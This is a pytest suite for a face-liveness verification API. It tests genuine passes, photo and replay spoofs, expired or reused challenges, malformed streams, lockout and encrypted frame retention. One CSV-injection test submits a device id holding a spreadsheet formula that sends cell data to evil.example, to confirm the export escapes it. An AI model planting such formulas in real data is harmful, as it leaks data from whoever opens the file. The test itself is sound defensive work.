"""Liveness over HTTP: a challenge, the phone's frames, the verified session, the record a
supervisor reviews, and every refusal (bad input, replayed or expired challenges, lockout)
answered with problem+json and nothing changed."""

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import timedelta
from functools import cache
from itertools import pairwise
from typing import Any

import cv2
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from api.jobs import sweep_cross_matches
from api.services import Services
from evaluation.identity import capture_stream, face_checks
from evaluation.kernel.audit import Caller
from evaluation.kernel.tokens import hash_token
from evaluation.registry.staff import Role
from face import synthetic as videos
from face.engine import FaceEngine
from models.clock import FrozenClock
from models.tables import (
    AuditEntry,
    CaptureChunk,
    FaceChallenge,
    FaceCrossCheck,
    FaceVerification,
    ScanSession,
    VerifiedSession,
)
from tests.api.helpers import assert_problem, refused_reasons
from tests.api.test_projects_api import project_payload
from tests.face.corpus import encode, engine, portraits
from tests.factories import CenterWithStaff, bound_phone, expert_payload

pytestmark = pytest.mark.slow

PERSON = "players-6"
OTHER = "gdp-2"
DEVICE = {"id": "phone-7f3a9c21", "model": "Pixel 7", "os": "Android 14", "browser": "Chrome"}


@cache
def _scene(name: str) -> videos.Scene:
    return videos.make_scene(engine(), portraits()[name])


FILMS = itertools.count(1)


def live(name: str, *, lit: bool = True) -> videos.LiveRenderer:
    """The person in front of the phone, following each step as it is revealed (a new
    take every time: a person never films the same frames twice)."""
    return videos.LiveRenderer(_scene(name), seed=next(FILMS), lit=lit)


@cache
def still_video(name: str) -> videos.Video:
    video = videos.still_photo(_scene(name), ["turn_left", "blink"])
    return videos.Video(video.frames[:10], video.timestamps_ms[:10], [300, 700])


class Recorded:
    """Frames made before the challenge (a recording, a photo, a replay), sent step by step
    in their own time, looping when they run out."""

    def __init__(self, video: videos.Video) -> None:
        self.video = video
        self.elapsed_ms = 0

    def film(
        self, screen: tuple[int, int, int], ms: int, prompt: str | None
    ) -> list[tuple[bytes, int]]:
        length = self.video.timestamps_ms[-1] + 125
        shot = [
            (frame, self.elapsed_ms + (t - self.elapsed_ms % length))
            for frame, t in zip(self.video.frames, self.video.timestamps_ms, strict=True)
            if self.elapsed_ms % length <= t < self.elapsed_ms % length + ms
        ]
        if not shot:
            shot = [(self.video.frames[0], self.elapsed_ms)]
        self.elapsed_ms += ms
        return shot


Source = videos.LiveRenderer | Recorded


def send_step(
    client: TestClient,
    issued: dict[str, Any],
    index: int,
    shot: list[tuple[bytes, int]],
    *,
    nonce: str | None = None,
    device: dict[str, str] = DEVICE,
    **overrides: Any,
) -> Any:
    data = {
        "nonce": issued["nonce"] if nonce is None else nonce,
        "step": str(index),
        "timestamps_ms": json.dumps([t for _, t in shot]),
        "device": json.dumps(device),
        **overrides,
    }
    files = [("frames", (f"{i}.jpg", frame, "image/jpeg")) for i, (frame, _) in enumerate(shot)]
    if not files:  # still a multipart form, with no frame in it
        files = [("note", ("note.txt", b"", "text/plain"))]
    return client.post(
        issued["submit_url"],
        data=data,
        files=files,
        headers={"User-Agent": "Mozilla/5.0 (Linux; Android 14; Pixel 7)"},
    )


def submit(
    client: TestClient,
    issued: dict[str, Any],
    source: Source | videos.Video,
    *,
    clock: FrozenClock,
    nonce: str | None = None,
    device: dict[str, str] = DEVICE,
    carry: bool = False,
) -> Any:
    """Stream a check as a phone does: film the step shown, upload it once its time has
    passed (the frozen clock moves with it), show the step the answer reveals; the last
    step's answer is the judgement, any refusal ends the stream. With ``carry``, the phone
    films on while each step uploads and sends that frame with the next step."""
    film = Recorded(source) if isinstance(source, videos.Video) else source
    step = issued["step"]
    carried: list[tuple[bytes, int]] = []
    while True:
        colour = videos.hex_colour(step["colour"])
        shot = film.film(colour, step["ms"], step["prompt"])
        clock.advance(timedelta(milliseconds=step["ms"] + 40))
        extra = {"carried": str(len(carried))} if carried else {}
        answer = send_step(
            client, issued, step["index"], carried + shot, nonce=nonce, device=device, **extra
        )
        if answer.status_code != 202:
            return answer
        carried = film.film(colour, 125, None) if carry else []
        step = answer.json()["next_step"]


@pytest.fixture
def operator(center: CenterWithStaff) -> dict[str, str]:
    return center.headers(Role.OPERATOR)


def _enrolled(client: TestClient, operator: dict[str, str], name: str) -> str:
    expert = client.post("/api/v1/experts", json=expert_payload(), headers=operator).json()
    photo = (f"{name}.jpg", encode(portraits()[name]), "image/jpeg")
    enrolled = client.put(
        f"/api/v1/experts/{expert['id']}/face",
        files={"photos": photo},
        data={"consent": "true"},
        headers=operator,
    )
    assert enrolled.status_code == 201, enrolled.text
    return str(expert["id"])


@pytest.fixture
def expert_id(client: TestClient, operator: dict[str, str]) -> str:
    return _enrolled(client, operator, PERSON)


def challenge(client: TestClient, operator: dict[str, str], *expert_ids: str) -> dict[str, Any]:
    response = client.post(
        "/api/v1/face/challenges", json={"expert_ids": list(expert_ids)}, headers=operator
    )
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def _count(db: Session, model: type) -> int:
    db.expire_all()
    return int(db.execute(select(func.count()).select_from(model)).scalar_one())


def _actions(db: Session) -> list[str]:
    db.expire_all()
    return list(db.execute(select(AuditEntry.action).order_by(AuditEntry.seq)).scalars())


def test_challenge_shape(
    client: TestClient, operator: dict[str, str], expert_id: str, db: Session
) -> None:
    seen = set()
    for _ in range(12):
        issued = challenge(client, operator, expert_id)
        assert issued["actions"] == []  # revealed step by step, not in advance
        first = issued["step"]
        assert first["index"] == 0 and first["prompt"] is None and 300 <= first["ms"] <= 500
        stored = db.get(FaceChallenge, issued["id"])
        assert stored is not None and stored.steps is not None
        actions = stored.actions
        assert [s["prompt"] for s in stored.steps if s["prompt"]] == actions
        assert first["of"] == len(stored.steps) >= 8  # 3.9 s or more, 500 ms at most
        assert 2 <= len(actions) <= 3
        assert all(a != b for a, b in pairwise(actions))
        assert {"turn_left", "turn_right", "nod"} & set(actions)
        seen.add(tuple(actions))
        assert issued["mode"] == "1:1" and issued["expert_ids"] == [expert_id]
        assert len(issued["nonce"]) >= 40
        lifetime = _seconds(issued["expires_at"]) - _seconds(issued["issued_at"])
        assert 0 < lifetime <= 60
        capture = issued["capture"]
        assert capture["fps"] == 8 and capture["max_width"] == 640
        assert capture["min_frames"] <= capture["frame_count"] <= capture["max_frames"]
    assert len(seen) > 3  # drawn at random, not a fixed script


def _seconds(stamp: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(stamp).timestamp()


def test_genuine_frames_pass_and_grant_a_session_bound_to_the_device(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    center: CenterWithStaff,
    clock: FrozenClock,
    db: Session,
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=2))  # the phone opens its camera
    response = submit(client, issued, live(PERSON), clock=clock)
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["passed"] is True and body["reasons"] == [], body["reasons"]
    record = body["verification"]
    assert record["expert_id"] == expert_id and record["device_id"] == DEVICE["id"]
    assert record["user_agent"].startswith("Mozilla/5.0") and record["client_ip"]
    assert len(record["frame_hashes"]) == record["frame_count"] >= 30
    assert not record["frames_retained"]
    checks = {c["check"]: c for c in record["checks"]}
    assert set(checks) >= {"actions", "depth", "identity", "replay", "light"}
    assert checks["light"]["passed"] and checks["light"]["values"]["correlation"] >= 0.8
    assert _count(db, CaptureChunk) == 0  # the stream's chunks go once judged

    token = body["session"]["token"]
    assert token.startswith("evf_")
    stored = db.execute(select(VerifiedSession)).scalar_one()
    assert token not in stored.token_hash and stored.expert_id == expert_id

    def session(device: str | None) -> Any:
        headers = {"Authorization": f"Bearer {token}"}
        if device:
            headers["X-Device-Id"] = device
        return client.get("/api/v1/face/session", headers=headers)

    current = session(DEVICE["id"])
    assert current.status_code == 200 and current.json()["expert_id"] == expert_id
    assert "token" not in current.json() or current.json()["token"] is None
    assert_problem(session("another-phone-1"), 401, "face-session-invalid")
    assert_problem(session(None), 401, "face-session-invalid")
    clock.advance(timedelta(minutes=11))
    assert_problem(session(DEVICE["id"]), 401, "face-session-invalid")

    supervisor = center.headers(Role.SUPERVISOR)
    listed = client.get("/api/v1/face/verifications", headers=supervisor).json()["items"]
    assert [item["id"] for item in listed] == [record["id"]]
    full = client.get(f"/api/v1/face/verifications/{record['id']}", headers=supervisor).json()
    assert full["checks"] == record["checks"]
    assert _actions(db)[-2:] == ["face.challenge_issued", "face.verification_passed"]


def test_a_recording_made_before_the_challenge_fails_the_light_check(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock
) -> None:
    """The same person, filmed live and following the prompts, but without the screen's
    colours (a video rendered ahead of time with the right actions): refused."""
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=2))
    body = submit(client, issued, live(PERSON, lit=False), clock=clock).json()
    assert body["passed"] is False and body["reasons"] == ["light-not-followed"], body
    light = next(c for c in body["verification"]["checks"] if c["check"] == "light")
    assert light["values"]["correlation"] < 0.6


def test_a_photo_fails_and_the_answer_says_why(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    response = submit(client, issued, still_video(PERSON), clock=clock)
    assert response.status_code == 201
    body = response.json()
    assert body["passed"] is False and body["session"] is None
    assert "planar-motion" in body["reasons"]
    assert "疑似照片或屏幕翻拍" in body["messages_zh"]
    assert body["attempts_remaining"] == 4 and body["locked"] is False


def test_a_formula_in_a_device_id_is_exported_as_text(
    client: TestClient,
    center: CenterWithStaff,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    issued = challenge(client, operator, expert_id)
    submitted = submit(client, issued, still_video(PERSON), device={"id": formula}, clock=clock)
    assert submitted.status_code == 201, submitted.text
    exported = client.get(
        "/api/v1/face/verifications",
        params={"format": "csv"},
        headers=center.headers(Role.SUPERVISOR),
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["device_id"] for row in rows] == ["'" + formula]


def test_reused_and_expired_challenges_are_refused_and_logged(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock, db: Session
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    assert submit(client, issued, still_video(PERSON), clock=clock).status_code == 201
    again = submit(client, issued, still_video(PERSON), clock=clock)
    assert_problem(again, 409, "challenge-used")
    assert _count(db, FaceVerification) == 1
    # The nonce's holder is nobody signed in: tallied per minute and address, not chained.
    assert refused_reasons(db, "face.submission_refused") == {"challenge-used": 1}

    late = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=61))
    assert_problem(submit(client, late, still_video(PERSON), clock=clock), 410, "challenge-expired")
    assert _count(db, FaceVerification) == 1
    # Each refused request is counted once, not once per transaction that saw it.
    assert refused_reasons(db, "face.submission_refused") == {
        "challenge-used": 1,
        "challenge-expired": 1,
    }
    assert "face.submission_refused" not in _actions(db)

    unknown = dict(late, submit_url="/api/v1/face/challenges/nope/frames")
    assert_problem(
        submit(client, unknown, still_video(PERSON), clock=clock), 404, "challenge-not-found"
    )
    fresh = challenge(client, operator, expert_id)
    wrong = submit(client, fresh, still_video(PERSON), clock=clock, nonce="not-the-nonce")
    assert_problem(wrong, 404, "challenge-not-found")


def _first_shot(count: int = 3, start: int = 0) -> list[tuple[bytes, int]]:
    video = still_video(PERSON)
    return [(video.frames[i % len(video.frames)], start + 125 * i) for i in range(count)]


@pytest.mark.parametrize(
    ("change", "frames", "status", "code"),
    [
        ({"nonce": ""}, 3, 422, "upload-missing"),
        ({"step": ""}, 3, 422, "frames-invalid"),
        ({"step": "-1"}, 3, 422, "frames-invalid"),
        ({"timestamps_ms": "[1, 2]"}, 3, 422, "frames-invalid"),
        ({"timestamps_ms": "not json"}, 3, 422, "frames-invalid"),
        ({"device": "{}"}, 3, 422, "frames-invalid"),
        ({"carried": "4"}, 3, 422, "frames-invalid"),
        ({"carried": "x"}, 3, 422, "frames-invalid"),
        # Over a step's cap: the form parser's own 400 "Too many files" never shows.
        ({}, 17, 422, "frames-invalid"),
        ({}, 400, 422, "frames-invalid"),
    ],
)
def test_malformed_uploads_change_nothing(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
    db: Session,
    change: dict[str, Any],
    frames: int,
    status: int,
    code: str,
) -> None:
    """Refused before the challenge is looked at: it can still be answered."""
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=1))
    before = (_count(db, FaceVerification), len(_actions(db)), _count(db, CaptureChunk))
    shot = _first_shot(frames)
    if frames == 400:
        shot = [(shot[0][0][:200], t) for _, t in shot]  # many small files
    assert_problem(send_step(client, issued, 0, shot, **change), status, code)
    assert (_count(db, FaceVerification), len(_actions(db)), _count(db, CaptureChunk)) == before
    assert send_step(client, issued, 0, _first_shot()).status_code == 202


def _gif() -> bytes:
    from io import BytesIO

    from PIL import Image

    out = BytesIO()
    Image.new("RGB", (64, 64)).save(out, format="GIF")
    return out.getvalue()


BROKEN_STREAMS = {
    # name: (what the phone does, status, code)
    "zero frames": (lambda s: [("send", 0, [])], 422, "frames-invalid"),
    "over the cap": (
        lambda s: [("send", i, s(16, 125 * 16 * i)) for i in range(7)],
        422,
        "frames-invalid",
    ),
    "frames out of order": (
        lambda s: [("send", 0, s(3, 0)), ("send", 1, s(3, 100))],
        422,
        "frames-out-of-order",
    ),
    "times going back within a step": (
        lambda s: [("send", 0, list(reversed(s(3, 0))))],
        422,
        "frames-out-of-order",
    ),
    "a step answered before it was shown": (
        lambda s: [("send", 0, s(3, 0)), ("send", 2, s(3, 1000))],
        409,
        "step-not-revealed",
    ),
    "a second stream": (
        lambda s: [("send", 0, s(3, 0)), ("send", 1, s(3, 500)), ("send", 1, s(3, 900))],
        409,
        "capture-stream-conflict",
    ),
    "another device": (
        lambda s: [("send", 0, s(3, 0)), ("other device", 1, s(3, 500))],
        409,
        "capture-stream-conflict",
    ),
    "faster than real time": (
        lambda s: [("send", 0, s(3, 0)), ("quick", 1, s(3, 500))],
        422,
        "capture-too-fast",
    ),
    "a stall": (lambda s: [("send", 0, s(3, 0)), ("stall", 1, s(3, 500))], 408, "capture-stalled"),
    "carried frames on the first step": (
        lambda s: [("carry 1", 0, s(3, 0))],
        422,
        "frames-invalid",
    ),
    "only carried frames": (
        lambda s: [("send", 0, s(3, 0)), ("carry 3", 1, s(3, 500))],
        422,
        "frames-invalid",
    ),
    "not an image": (lambda s: [("send", 0, [(b"%PDF-1.7", 0)])], 422, "image-unusable"),
    "a gif": (lambda s: [("send", 0, [(_gif(), 0)])], 415, "image-type-unsupported"),
    "too wide": (
        lambda s: [("send", 0, [(encode(cv2.resize(_scene(PERSON).frame, (800, 400))), 0)])],
        422,
        "frames-invalid",
    ),
}


@pytest.mark.parametrize("name", list(BROKEN_STREAMS))
def test_a_broken_stream_is_refused_and_spends_the_challenge(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
    db: Session,
    services: Services,
    name: str,
) -> None:
    plan, status, code = BROKEN_STREAMS[name]
    frames = still_video(PERSON).frames

    def shot(count: int, start: int) -> list[tuple[bytes, int]]:
        return [(frames[i % len(frames)], start + 125 * i) for i in range(count)]

    issued = challenge(client, operator, expert_id)
    stored = db.get(FaceChallenge, issued["id"])
    assert stored is not None and stored.steps is not None
    ms = [s["ms"] for s in stored.steps]
    clock.advance(timedelta(seconds=1))
    before = (_count(db, FaceVerification), len(_actions(db)))
    answers = []
    for how, step, sent in plan(shot):
        wait = {"quick": 50, "stall": 11_000}.get(how, ms[min(step, len(ms) - 1)] + 40)
        clock.advance(timedelta(milliseconds=wait))
        device = dict(DEVICE, id="phone-other-77") if how == "other device" else DEVICE
        extra = {"carried": how.split()[1]} if how.startswith("carry") else {}
        answers.append(send_step(client, issued, step, sent, device=device, **extra))
    assert all(a.status_code == 202 for a in answers[:-1]), [a.text for a in answers]
    body = assert_problem(answers[-1], status, code)
    assert body["detail"]
    # Spent: nothing kept of the stream, no verification, one refusal in the log.
    assert _count(db, CaptureChunk) == 0
    assert (_count(db, FaceVerification), len(_actions(db))) == (before[0], before[1] + 1)
    assert _actions(db)[-1] == "face.submission_refused"
    db.expire_all()
    spent = db.get(FaceChallenge, issued["id"])
    assert spent is not None and spent.used_at is not None
    assert_problem(send_step(client, issued, 0, shot(3, 0)), 409, "challenge-used")


def test_a_stream_that_never_closes_expires(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock, db: Session
) -> None:
    """A phone that films a few steps and never sends the rest: the challenge expires, its
    next upload is refused, and the stored steps go with it."""
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=1))
    step = issued["step"]
    for n in range(3):
        clock.advance(timedelta(milliseconds=step["ms"] + 40))
        answer = send_step(client, issued, step["index"], _first_shot(start=500 * n))
        assert answer.status_code == 202, answer.text
        step = answer.json()["next_step"]
        assert step["colour"].startswith("#") and len(step["colour"]) == 7
    assert _count(db, CaptureChunk) == 3
    clock.advance(timedelta(seconds=60))
    late = send_step(client, issued, step["index"], _first_shot(start=2000))
    assert_problem(late, 410, "challenge-expired")
    assert _count(db, CaptureChunk) == 0 and _count(db, FaceVerification) == 0


def test_the_retention_job_drops_streams_nobody_finished(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock, db: Session
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(milliseconds=issued["step"]["ms"] + 40))
    assert send_step(client, issued, 0, _first_shot()).status_code == 202
    assert capture_stream.drop_expired_streams(db, clock.now()) == 0  # still open
    clock.advance(timedelta(seconds=61))
    assert capture_stream.drop_expired_streams(db, clock.now()) == 1
    assert _count(db, CaptureChunk) == 0


def test_not_multipart_is_refused(
    client: TestClient, operator: dict[str, str], expert_id: str
) -> None:
    issued = challenge(client, operator, expert_id)
    assert_problem(
        client.post(issued["submit_url"], json={"nonce": issued["nonce"]}),
        415,
        "unsupported-media-type",
    )


def test_repeated_failures_lock_until_an_operator_unlocks(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
    center: CenterWithStaff,
    db: Session,
) -> None:
    # Failures from the person's own bound phone lock the person (another phone's lock that
    # phone: tests/api/test_face_abuse_limits.py).
    bound_phone(db, clock, None, center.id, expert_id, device_id=DEVICE["id"])
    for attempt in range(5):
        issued = challenge(client, operator, expert_id)
        clock.advance(timedelta(seconds=5))
        body = submit(client, issued, still_video(PERSON), clock=clock).json()
        assert body["passed"] is False
        assert body["attempts_remaining"] == 4 - attempt
    assert body["locked"] is True
    assert "face.check_locked" in _actions(db)
    refused = client.post(
        "/api/v1/face/challenges", json={"expert_ids": [expert_id]}, headers=operator
    )
    assert_problem(refused, 423, "face-check-locked")
    lock = client.get(
        f"/api/v1/experts/{expert_id}/face/lockout", headers=center.headers(Role.SUPERVISOR)
    )
    assert lock.status_code == 200 and lock.json()["failures"] == 5

    unlock = client.post(
        f"/api/v1/experts/{expert_id}/face/unlock",
        json={"reason": "到中心现场核验身份证后解锁"},
        headers=operator,
    )
    assert unlock.status_code == 200 and unlock.json()["unlocked_by"].startswith("staff:")
    assert _actions(db)[-1] == "face.check_unlocked"
    # Unlocking resets the count: a new failure leaves four more tries.
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    assert (
        submit(client, issued, still_video(PERSON), clock=clock).json()["attempts_remaining"] == 4
    )
    assert_problem(
        client.get(f"/api/v1/experts/{expert_id}/face/lockout", headers=operator),
        404,
        "not-found",
    )


def test_one_of_several_experts_is_identified(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock
) -> None:
    other = _enrolled(client, operator, OTHER)
    issued = challenge(client, operator, other, expert_id)
    assert issued["mode"] == "1:few"
    clock.advance(timedelta(seconds=8))
    body = submit(client, issued, live(PERSON), clock=clock, carry=True).json()
    assert body["passed"] is True, body["reasons"]
    assert body["verification"]["expert_id"] == expert_id
    assert body["session"]["expert_id"] == expert_id


def test_challenges_need_an_active_enrolled_expert_of_this_center(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    other_center: CenterWithStaff,
    db: Session,
) -> None:
    plain = client.post("/api/v1/experts", json=expert_payload(), headers=operator).json()["id"]
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": [plain]}, headers=operator),
        409,
        "face-not-enrolled",
    )
    foreign = client.post(
        "/api/v1/face/challenges",
        json={"expert_ids": [expert_id]},
        headers=other_center.headers(Role.OPERATOR),
    )
    assert_problem(foreign, 404, "not-found")
    suspend = client.post(
        f"/api/v1/experts/{expert_id}/suspend", json={"reason": "回避"}, headers=operator
    )
    assert suspend.status_code == 200
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": [expert_id]}, headers=operator),
        409,
        "expert-not-active",
    )
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": []}, headers=operator),
        422,
        "validation-failed",
    )
    assert _count(db, FaceChallenge) == 0


class TestRetention:
    """With the retention setting on, the frames are kept as evidence, encrypted."""

    @pytest.fixture
    def settings(self, tmp_path: Any, database_url: str) -> Any:
        from models.settings import Settings

        return Settings(
            data_dir=tmp_path,
            database_url=database_url,
            audit_checkpoint_every_s=0,
            jobs_in_serve=False,
            liveness_retain_frames=True,
        )

    def test_frames_are_kept_encrypted(
        self,
        client: TestClient,
        operator: dict[str, str],
        expert_id: str,
        clock: FrozenClock,
        db: Session,
        services: Any,
    ) -> None:
        from models.tables import VerificationFrame

        issued = challenge(client, operator, expert_id)
        clock.advance(timedelta(seconds=5))
        video = still_video(PERSON)
        sent: list[bytes] = []
        film = Recorded(video)
        original = film.film

        def keeping(*step: Any) -> list[tuple[bytes, int]]:
            shot = original(*step)
            sent.extend(frame for frame, _ in shot)
            return shot

        film.film = keeping  # type: ignore[method-assign]
        body = submit(client, issued, film, clock=clock).json()
        assert body["verification"]["frames_retained"] is True
        db.expire_all()
        kept = db.execute(select(VerificationFrame).order_by(VerificationFrame.seq)).scalars().all()
        assert len(kept) == len(sent) > len(video.frames)
        verification_id = body["verification"]["id"]
        for row, frame in zip(kept, sent, strict=True):
            assert frame not in row.ciphertext
            context = f"face_verifications/{verification_id}/frames/{row.seq}"
            assert services.cipher.decrypt_bytes(row.ciphertext, context) == frame


def test_a_scan_challenge_answer_names_no_candidates(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    center: CenterWithStaff,
    db: Session,
    clock: FrozenClock,
    services: Services,
    face_engine: FaceEngine,
) -> None:
    """A phone that scanned the room code must not learn the sealed committee from the
    answer to its face check, passed or not."""
    other = _enrolled(client, operator, OTHER)
    project = client.post(
        "/api/v1/projects", json=project_payload(code="SCAN-ANSWER"), headers=operator
    ).json()
    scan = ScanSession(
        center_id=center.id,
        project_id=project["id"],
        kind="room",
        token_hash=hash_token("evs_test"),
        device_id=DEVICE["id"],
        created_at=clock.now(),
        expires_at=clock.now() + timedelta(minutes=5),
    )
    db.add(scan)
    db.flush()
    issued = face_checks.issue_challenge(
        db,
        Caller(center.id, f"scan:{scan.id}"),
        clock,
        services.cipher,
        face_engine,
        services.liveness,
        [expert_id, other],
        scan_session_id=scan.id,
    )
    db.commit()
    answer = submit(
        client,
        {
            "nonce": issued.nonce,
            "step": capture_stream.step_view(issued.challenge, 0),
            "submit_url": f"/api/v1/face/challenges/{issued.challenge.id}/frames",
        },
        still_video(PERSON),
        clock=clock,
    )
    assert answer.status_code == 201, answer.text
    assert answer.json()["passed"] is False and answer.json()["verification"] is None
    assert expert_id not in answer.text and other not in answer.text


def test_a_face_that_looks_like_another_enrolled_expert_is_recorded(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    db: Session,
    clock: FrozenClock,
    services: Services,
) -> None:
    """Someone else's face on the claimed expert's check: refused, and the background sweep
    records the enrolled person it matched better (the face-matches-other anomaly reads
    this); the check itself compares with the claimed person only."""
    other_id = _enrolled(client, operator, OTHER)
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=8))
    answered = submit(client, issued, live(OTHER), clock=clock)
    body = answered.json()
    assert body["passed"] is False and "face-mismatch" in body["reasons"]
    assert all(c["check"] != "cross-match" for c in body["verification"]["checks"])
    verification_id = body["verification"]["id"]
    queued = db.get(FaceCrossCheck, verification_id)
    assert queued is not None and queued.swept_at is None and queued.probe_ciphertext

    assert sweep_cross_matches(services) == 1
    db.expire_all()
    swept = db.get(FaceCrossCheck, verification_id)
    assert swept is not None and swept.swept_at == clock.now()
    assert swept.other_expert_id == other_id
    assert swept.other_similarity is not None
    assert swept.other_similarity > swept.claimed_similarity
    assert swept.claimed_similarity == pytest.approx(body["verification"]["similarity"])
    assert swept.probe_ciphertext is None  # the face is not kept past the comparison
    assert sweep_cross_matches(services) == 0  # each check is compared once

    # The right person on their own check: nothing found.
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=8))
    own = submit(client, issued, live(PERSON), clock=clock).json()
    assert own["passed"]
    assert sweep_cross_matches(services) == 0
    db.expire_all()
    mine = db.get(FaceCrossCheck, own["verification"]["id"])
    assert mine is not None and mine.swept_at is not None and mine.other_expert_id is None
